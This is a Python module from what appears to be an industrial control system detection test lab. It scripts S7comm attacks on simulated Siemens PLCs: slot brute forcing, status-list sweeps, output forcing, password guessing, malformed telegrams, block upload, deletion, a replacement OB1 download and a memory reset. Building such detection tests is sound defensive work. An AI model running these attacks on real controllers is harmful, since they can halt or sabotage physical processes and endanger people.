"""The S7comm detections that have no capture of their own: by the Snap7 C library where it has a function for it, else by its raw exchange.

Benign twin: hmi-press at its panel and eng, which connects as a programming device, reads the same status lists and lists the
blocks, both in the lead-in of this very capture. `prepare` puts a block on the filler that can be taken and deleted.
"""

from __future__ import annotations

import importlib
import socket
import struct
import time
from collections.abc import Callable
from datetime import datetime
from typing import Any

from ..plan import machine
from ..plant import plc_filler, plc_press, s7
from .base import Act, Attack, Text, text
from .s7_block import LANGUAGE_STL, VALVE_CODE, block, recipe_block

TYPE_OB = 0x08
# head and one item: output byte 0 with its value, as STEP 7 sends it
FORCE = "ff09001c0014000000010001000000020001000100010112080120000100ff"
WRONG_PASSWORDS = ("simatic", "basisk", "admin123", "password", "12345678")
NOT_THERE = 777


def _with(plc: str, do: Callable[[Any], object], role: int = s7.PG) -> Callable[[], None]:
    def run() -> None:
        client = s7.connect_native(plc, role)
        try:
            do(client)
        finally:
            s7.close(client)

    return run


def _quiet(do: Callable[[], object]) -> None:
    """A refusal is on the wire; what the client makes of it does not matter."""
    try:
        do()
    except Exception as refused:  # noqa: BLE001
        print("set_s7comm:", refused)


def _raw(*telegrams: str) -> Callable[[Any], None]:
    """S7 telegrams behind COTP, on a connection that Snap7 set up."""

    def do(client: Any) -> None:
        for telegram in telegrams:
            _quiet(lambda telegram=telegram: client.iso_exchange_buffer(bytearray.fromhex(telegram)))

    return do


def _userdata(group: int, subfunction: int, data: str = "0a000000") -> str:
    parameter = bytes((0, 1, 0x12, 4, 0x11, 0x40 | group, subfunction, 0))
    body = bytes.fromhex(data)
    return (struct.pack(">BBHHHH", 0x32, 7, 0, 0x0900, len(parameter), len(body)) + parameter + body).hex()


def _brute_tsap() -> None:
    """Slot after slot, as a scanner does that does not know where the CPU sits."""
    for slot in range(6):
        client = s7.native("snap7.client").Client()
        client.set_connection_type(s7.OP)
        _quiet(lambda client=client, slot=slot: client.connect(machine("plc-press").ip, 0, slot))
        client.disconnect()


def _sweep(client: Any) -> None:
    for number in (0x0011, 0x001C, 0x0012, 0x0013, 0x0014, 0x0015, 0x0019, 0x0022, 0x0074, 0x0131, 0x0132, 0x0232, 0x0424, 0x00A0):
        _quiet(lambda number=number: client.read_szl(number, 0))


def _burst(client: Any) -> None:
    for turn in range(30):
        s7.done(client.db_write(plc_press.UNUSED, turn * 2, bytearray(b"\x7f\xff")))


def _missing(client: Any) -> None:
    for number in range(15):
        _quiet(lambda number=number: client.db_read(NOT_THERE + number, 0, 4))


def _passwords(client: Any) -> None:
    for password in WRONG_PASSWORDS:
        _quiet(lambda password=password: client.set_session_password(password))
        time.sleep(0.2)


def _download_ob1(client: Any) -> None:
    s7.done(client.download(bytearray(block(TYPE_OB, LANGUAGE_STL, 1, VALVE_CODE, "SERVICE", "FILLER", "MAIN"))))


def _upload() -> None:
    client = importlib.import_module("snap7.client").Client()
    client.set_connection_type(s7.PG)
    client.connect(machine("plc-filler").ip, s7.RACK, s7.SLOT)
    for number in (plc_filler.MEASURED, plc_filler.SET_POINTS):
        _quiet(lambda number=number: client.upload(number))
    client.disconnect()


def _delete(client: Any) -> None:
    _quiet(lambda: client.delete(s7.native("snap7.type").Block.DB, plc_filler.RECIPES))


def _malformed() -> None:
    """Lengths that lie, a function that is none, and a telegram cut into tiny segments."""
    connect = bytes.fromhex("0300001611e00000000100c1020100c2020102c0010a")
    setup = bytes.fromhex("0300001902f08032010000040000080000f0000001000101e0")
    bad = (
        "0300001f02f080320100000500000e00000401120a10020010000184000000"[:-2] + "ff",
        "0300001f02f080320100000500ff0e00000401120a10020010000184000000",
        "0300001902f08032010000060000080000ee000001000101e0",
        "0300000702f080",
    )
    for telegram in bad:
        with socket.create_connection((machine("plc-press").ip, 102), timeout=3) as raw:
            raw.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
            for part in (connect, setup):
                raw.sendall(part)
                raw.recv(512)
            raw.sendall(bytes.fromhex(telegram))
            time.sleep(0.4)


def _prepare() -> None:
    client = s7.connect_native("plc-filler", s7.PG)
    s7.done(client.download(bytearray(recipe_block(plc_filler.RECIPES))))
    s7.close(client)


def _act(detection: str, name: str, actor: str, plc: str, what: Text, run: Callable[[], None], tool: str = "snap7-native") -> Act:
    return Act(name, actor, plc, what, tool, "tcp.port == 102", run, detection=detection)


ATTACK = Attack(
    "s7comm",
    text("对 S7 控制器的多种攻击", "Attacks of many kinds on S7 controllers"),
    (
        _act("S7-01", "role", "hmi-press", "plc-press", text("操作员站以编程设备(PG)身份连接", "The operator station connects as a programming device"), _with("plc-press", lambda client: client.db_read(plc_press.MEASURED, 0, 4))),
        _act("S7-02", "tsap", "historian", "plc-press", text("逐个尝试机架和槽号", "Slot after slot is tried"), _brute_tsap),
        _act("S7-13", "blocks", "historian", "plc-press", text("历史数据服务器列出程序块", "The historian lists the program blocks"), _with("plc-press", lambda client: client.list_blocks())),
        _act("S7-14", "lists", "historian", "plc-press", text("连续读取多种系统状态列表", "One system status list after the other is read"), _with("plc-press", _sweep)),
        _act("S7-16", "burst", "hmi-press", "plc-press", text("几秒内写入 30 个地址", "Thirty addresses are written within seconds"), _with("plc-press", _burst, s7.OP)),
        _act("S7-17", "force", "eng", "plc-filler", text("强制输出", "An output is forced"), _with("plc-filler", _raw(_userdata(1, 0x09, FORCE)))),
        _act("S7-18", "debug", "eng", "plc-press", text("读取块的执行状态(调试)", "The state of a running block is watched"), _with("plc-press", _raw(*[_userdata(1, 0x13, "ff090004000c0000")] * 2))),
        _act("S7-19", "clock", "eng", "plc-press", text("把 PLC 时钟拨到 2001 年", "The PLC's clock is set to 2001"), _with("plc-press", lambda client: client.set_plc_datetime(datetime(2001, 1, 1)))),
        _act("S7-20", "password", "historian", "plc-press", text("尝试五个常见密码", "Five common passwords are tried"), _with("plc-press", _passwords)),
        _act("S7-21", "denied", "historian", "plc-press", text("反复读取不存在的数据块", "Data blocks that do not exist are read again and again"), _with("plc-press", _missing, s7.OP)),
        _act("S7-22", "alarms", "eng", "plc-press", text("锁定报警", "Alarms are locked"), _with("plc-press", _raw(_userdata(4, 0x07, "ff09000c0100000000000000ffffffff"), _userdata(4, 0x0B, "ff09000c0100000000000000ffffffff")))),
        _act("S7-23", "malformed", "historian", "plc-press", text("发送畸形 S7 报文", "Malformed S7 telegrams are sent"), _malformed, "scripted"),
        _act("S7-10", "upload", "eng", "plc-filler", text("从 PLC 读出数据块", "Data blocks are copied out of the PLC"), _upload, "snap7"),
        _act("S7-09", "main-program", "eng", "plc-filler", text("下载主程序 OB1", "The main program OB1 is downloaded"), _with("plc-filler", _download_ob1)),
        _act("S7-11", "delete", "eng", "plc-filler", text("删除数据块", "A data block is deleted"), _with("plc-filler", _delete)),
        _act("S7-05", "reset", "eng", "plc-filler", text("清除存储器(MRES)", "The memory is reset"), _with("plc-filler", _raw(_userdata(1, 0x0C)))),
    ),
    prepare=Act("prepare", "eng", "plc-filler", text("", ""), "snap7-native", "tcp", _prepare),
    also=("NET-06", "S7-01", "S7-02", "S7-08", "S7-10", "S7-11", "S7-12", "S7-13", "S7-14", "S7-15", "S7-16", "S7-18", "S7-21", "S7-23", "COR-01", "COR-02"),
)
